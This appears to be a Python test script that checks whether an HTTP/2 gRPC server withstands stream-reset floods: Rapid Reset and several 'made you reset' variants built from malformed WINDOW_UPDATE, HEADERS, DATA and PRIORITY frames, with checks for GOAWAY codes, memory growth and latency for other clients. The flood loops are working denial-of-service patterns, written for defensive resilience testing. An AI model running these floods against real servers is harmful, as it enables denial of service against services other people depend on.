"""W1: streams that are opened and abandoned, by the peer's resets or by making the server reset them.

Prints `ok <name>` or `FAIL <name>: <why>` for each check. Usage: w1_resets.py [--strict] [--long] [NAME...]
"""

import sys
import threading
import time

import attack
import checks
import rawgrpc
from attack import (CONSUME_STREAM, DATA, END_HEADERS, END_STREAM, HEADERS, PRIORITY, RST_STREAM, WINDOW_UPDATE, frame,
                    u32)
from checks import equal, true

PROTOCOL_ERROR, FLOW_CONTROL_ERROR, STREAM_CLOSED, ENHANCE_YOUR_CALM = 1, 3, 5, 11
MOST_STREAMS = 2_000
ASKED = 100_000
check = checks.Checks()


def attack_until_closed(target, abandon, at_once=ENHANCE_YOUR_CALM):
    """`at_once`: the code when the first mistake already ends the connection (RFC 9113 section 5.4.1 allows that).

    Opens streams and abandons each, as fast as it goes; the number taken before the end, and the peer."""
    before = target.server.resident_bytes()
    with target.peer() as peer:
        opened = 0
        for opened in range(0, ASKED, 20):
            octets = b""
            for number in range(opened, opened + 20):
                stream = 1 + 2 * number
                octets += peer.open(stream, CONSUME_STREAM) + abandon(peer, stream)
            if not peer.send(octets):
                break
            peer.drain(0.0005)
            if peer.goaway:
                break
        calm = peer.goaway == at_once and peer.until(lambda: peer.closed) or peer.ended_as_flood()
        true(calm, f"after {opened} streams: GOAWAY {peer.goaway}, closed {peer.closed}")
    true(opened <= MOST_STREAMS, f"{opened} streams were taken")
    grown = target.at_base(before)
    attack.figure(f"closed after {opened} streams at most; resident grew {grown >> 10} KiB")


@check
def rapid_reset(target):
    attack_until_closed(target, lambda peer, stream: frame(RST_STREAM, 0, stream, u32(8)))


@check
def made_you_reset_by_a_window_overflow(target):
    attack_until_closed(target, lambda peer, stream: frame(WINDOW_UPDATE, 0, stream, u32(0x7FFFFFFF)), FLOW_CONTROL_ERROR)


@check
def made_you_reset_by_a_window_update_of_zero(target):
    attack_until_closed(target, lambda peer, stream: frame(WINDOW_UPDATE, 0, stream, u32(0)), PROTOCOL_ERROR)


@check
def made_you_reset_by_headers_after_the_end(target):
    attack_until_closed(target, lambda peer, stream: ended(stream) + frame(
        HEADERS, END_HEADERS | END_STREAM, stream, peer.encoder.encode([("x", "y")])), STREAM_CLOSED)


@check
def made_you_reset_by_data_after_the_end(target):
    attack_until_closed(target, lambda peer, stream: ended(stream) + frame(DATA, 0, stream, b"x"), STREAM_CLOSED)


def ended(stream):
    return frame(DATA, END_STREAM, stream, rawgrpc.message(b""))


@check
def made_you_reset_by_a_priority_of_six_bytes(target):
    either_error_or_calm(target, lambda stream: frame(PRIORITY, 0, stream, bytes(6)), 6)


@check
def made_you_reset_by_a_dependency_on_itself(target):
    either_error_or_calm(target, lambda stream: frame(PRIORITY, 0, stream, u32(stream) + b"\x10"), 1)


def either_error_or_calm(target, abandon, code):
    """The library may make a connection error of it at once (RFC 9113 section 5.4.1), or pass over the frame as RFC 9113
    section 5.3.2 lets it: then no stream is reset, and the streams are bounded by their number."""
    before = target.server.resident_bytes()
    with target.peer() as peer:
        for number in range(1_000):
            stream = 1 + 2 * number
            if not peer.send(peer.open(stream, CONSUME_STREAM) + abandon(stream)):
                break
            peer.drain(0.0003)
            if peer.goaway:
                break
        peer.settle()
        if peer.goaway:
            true(peer.goaway in (code, ENHANCE_YOUR_CALM), f"code of GOAWAY is {peer.goaway}")
        own = sum(1 for found in peer.resets.values() if found != 7)
        true(own <= 700, f"{own} streams were reset by the server for the peer's mistakes")
    target.at_base(before)


@check
def others_are_served_during_rapid_reset(target):
    seconds = 15 if attack.LONG else 2
    quiet = latencies(target, seconds)
    stop = threading.Event()

    def hostile():
        while not stop.is_set():
            with target.peer() as peer:
                for number in range(1_000):
                    stream = 1 + 2 * number
                    if not peer.send(peer.open(stream, CONSUME_STREAM) + frame(RST_STREAM, 0, stream, u32(8))):
                        break

    attacker = threading.Thread(target=hostile, daemon=True)
    attacker.start()
    beside = latencies(target, seconds)
    stop.set()
    attacker.join(20)
    attack.figure(f"others' p99 {quiet * 1000:.2f} ms, beside the attack {beside * 1000:.2f} ms")
    if attack.STRICT:  # the attacker is a Python program of this process: on a busy machine it delays the others itself
        true(beside <= max(2 * quiet, 0.005), f"p99 {quiet * 1000:.2f} -> {beside * 1000:.2f} ms")
    target.fresh_call()


def latencies(target, seconds):
    taken, end = [], time.monotonic() + seconds
    with target.connect() as connection:
        while time.monotonic() < end:
            begun = time.perf_counter()
            equal(connection.reply(connection.start(attack.GET_SERVERS, b"")).status, 0, "status")
            taken.append(time.perf_counter() - begun)
            time.sleep(0.002)
    return sorted(taken)[int(len(taken) * 0.99)]


if __name__ == "__main__":
    sys.exit(attack.run(check))
